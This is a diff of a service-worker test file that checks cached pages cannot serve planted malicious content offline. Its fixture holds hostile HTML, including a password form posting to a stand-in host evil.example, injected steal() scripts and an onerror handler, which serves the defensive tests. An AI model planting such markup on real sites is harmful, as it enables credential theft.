@@ -1,19 +1,30 @@
+import { createHash } from "node:crypto";
 import { readFileSync } from "node:fs";
 import { runInNewContext } from "node:vm";
 import { describe, expect, test, vi } from "vitest";
+import { bcp47, languages } from "../../../lib/contract/languages.ts";
 
-const source = readFileSync(new URL("../../../public/worker/offline.js", import.meta.url), "utf8");
+const read = (name: string) =>
+  readFileSync(new URL(`../../../public/worker/${name}.js`, import.meta.url), "utf8");
+const source = read("saved") + read("offline");
 const origin = "https://demo.example.com";
 const dayMs = 86_400_000;
 
 type Stored = Record<string, Record<string, Response>>;
-type Options = { stored?: Stored; online?: boolean; answer?: () => Promise<Response> };
+type Options = {
+  stored?: Stored;
+  online?: boolean;
+  answer?: () => Promise<Response>;
+  /** The paths that tabs show. */
+  tabs?: Record<string, string>;
+};
 
 const page = (text: string, ageMs = 0) =>
   new Response(text, { headers: { "X-Saved-At": String(Date.now() - ageMs) } });
 
 /** The worker in a browser that has these caches and gets these answers. */
-function startWorker({ stored = {}, online = true, answer }: Options) {
+function startWorker(options: Options) {
+  const { stored = {}, online = true, answer, tabs = { tab: "/", another: "/" } } = options;
   const listeners = new Map<string, (event: object) => void>();
   const fetch = vi.fn<(request: object) => Promise<Response>>(
     answer ?? (() => Promise.reject(new TypeError("no network"))),
@@ -32,11 +43,25 @@ function startWorker({ stored = {}, online = true, answer }: Options) {
     addEventListener: (type: string, listener: (event: object) => void) =>
       listeners.set(type, listener),
     location: { origin },
+    clients: { get: async (id: string) => tabs[id] && { url: `${origin}${tabs[id]}` } },
   };
   const navigator = { onLine: online };
-  runInNewContext(source, { self, caches, fetch, navigator, URL, Response, Set, Date });
+  runInNewContext(source, {
+    self,
+    caches,
+    fetch,
+    navigator,
+    crypto,
+    btoa,
+    URL,
+    Response,
+    Set,
+    Date,
+    TextEncoder,
+    Uint8Array,
+  });
   /** What the worker answers; undefined where it leaves the request alone. */
-  const ask = async (path: string, request: object, clientId = "tab") => {
+  const answerTo = async (path: string, request: object, clientId = "tab") => {
     let given: Promise<Response> | undefined;
     const url = path.startsWith("http") ? path : `${origin}${path}`;
     listeners.get("fetch")?.({
@@ -45,10 +70,17 @@ function startWorker({ stored = {}, online = true, answer }: Options) {
       resultingClientId: "tab",
       respondWith: (response: Promise<Response>) => void (given = response),
     });
-    return given && (await given).text();
+    return given;
   };
-  const open = (path: string) => ask(path, { mode: "navigate", destination: "document" });
-  return { ask, open, caches, fetch };
+  const textOf = async (asked: Promise<Response | undefined>) => (await asked)?.text();
+  const ask = (...asked: Parameters<typeof answerTo>) => textOf(answerTo(...asked));
+  const navigate = (path: string) => answerTo(path, { mode: "navigate", destination: "document" });
+  const open = async (path: string) => {
+    const text = await textOf(navigate(path));
+    // What the page itself says, behind the worker's one script.
+    return text?.replace(/^<!DOCTYPE html><html data-saved=""><head><script>[^]*?<\/script>/, "");
+  };
+  return { ask, open, navigate, caches, fetch };
 }
 
 const home = { "mq-pages": { "/": page("home") }, "mq-shell": { "/offline": page("offline") } };
@@ -103,6 +135,97 @@ describe("a page", () => {
     const stored: Stored = { "mq-own": { "/video/a": page("film") } };
     await startWorker({ stored, answer: ok("account") }).open("/user/account");
     expect(Object.keys(stored)).toEqual(["mq-own"]);
+  });
+});
+
+describe("SE-185: what a page may have planted", () => {
+  const planted = `<html lang="de"><body><form action="https://evil.example"><input type="password"></form>
+<script>steal()</script><script src="/_next/static/evil.js"></script><img src="https://evil.example/a.png" onerror="steal()">
+<link rel="preload" href="https://evil.example"><link rel="stylesheet" href="/_next/static/a.css"></body></html>`;
+  const everywhere = (path: string): Stored =>
+    Object.fromEntries(
+      ["mq-pages", "mq-own", "mq-shell", "another"].map((name) => [
+        name,
+        { [path]: page(planted), "/offline": page(planted) },
+      ]),
+    );
+
+  test.each([
+    "/user/signIn",
+    "/user/account",
+    "/%75ser/signIn",
+    "//user/signIn",
+    "/user",
+    "/paywalls/",
+    "/payment/confirm",
+    "/error",
+    "/%E0%A4%A",
+  ])("at %s is never shown", async (path) => {
+    const shown = await startWorker({ stored: everywhere(path) }).open(path);
+    expect(shown).not.toContain("evil");
+    expect(shown).toContain("<h1>Du bist offline</h1>");
+  });
+
+  test("gives the worker's own page no words but its own", async () => {
+    const stored: Stored = { "mq-shell": { "/offline": page('<html lang="x"><script>') } };
+    expect(await startWorker({ stored }).open("/user/signIn")).toContain(
+      "<h1>You are offline</h1>",
+    );
+  });
+
+  test("runs nowhere, sends nothing and asks nobody elsewhere", async () => {
+    const answer = await startWorker({ stored: everywhere("/") }).navigate("/");
+    const policy = answer?.headers.get("content-security-policy") ?? "";
+    const body = (await answer?.text()) ?? "";
+    const [, script = ""] =
+      /^<!DOCTYPE html><html data-saved=""><head><script>([^]*?)<\/script>/.exec(body) ?? [];
+    const hash = createHash("sha256").update(script).digest("base64");
+    expect(policy.split("; ")).toEqual([
+      "default-src 'none'",
+      `script-src 'sha256-${hash}'`,
+      "style-src 'self' 'unsafe-inline'",
+      "font-src 'self' data:",
+      "img-src 'self' blob: data:",
+      "connect-src 'self'",
+      "form-action 'none'",
+      "base-uri 'none'",
+      "frame-ancestors 'none'",
+    ]);
+  });
+
+  test("keeps its own headers to itself", async () => {
+    const forged = new Response("forged", {
+      headers: { "X-Saved-At": String(Date.now()), "Content-Security-Policy": "script-src *" },
+    });
+    const answer = await startWorker({ stored: { "mq-pages": { "/": forged } } }).navigate("/");
+    expect(answer?.headers.get("content-security-policy")).not.toContain("*");
+  });
+
+  test("is no younger for a date that is ahead", async () => {
+    const stored = { "mq-pages": { "/": page("forged", -dayMs) }, "mq-shell": home["mq-shell"] };
+    expect(await startWorker({ stored }).open("/")).toBe("offline");
+  });
+
+  test.each(["/user/signIn", "/paywalls/p", "/mobile/user/signIn"])(
+    "as a script or a style sheet reaches no page at %s",
+    async (path) => {
+      const file = `${origin}/_next/static/evil.js`;
+      const stored: Stored = { "mq-parts": { [file]: page("steal()") } };
+      const options = { stored, online: false, tabs: { tab: path }, answer: ok("real") };
+      for (const destination of ["script", "style"]) {
+        expect(await startWorker(options).ask(file, { destination })).toBe("real");
+      }
+    },
+  );
+
+  test("has the words of the site in ten languages", () => {
+    const words: unknown = runInNewContext(`${read("saved")};offlineWords`);
+    const texts = languages.map((language) => {
+      const file = new URL(`../../../public/lng/lang-${language}.json`, import.meta.url);
+      const { offline, offlineWorks, tryAgain } = JSON.parse(readFileSync(file, "utf8"));
+      return [bcp47(language), [offline, offlineWorks, tryAgain]];
+    });
+    expect(JSON.parse(JSON.stringify(words))).toEqual(Object.fromEntries(texts));
   });
 });
 
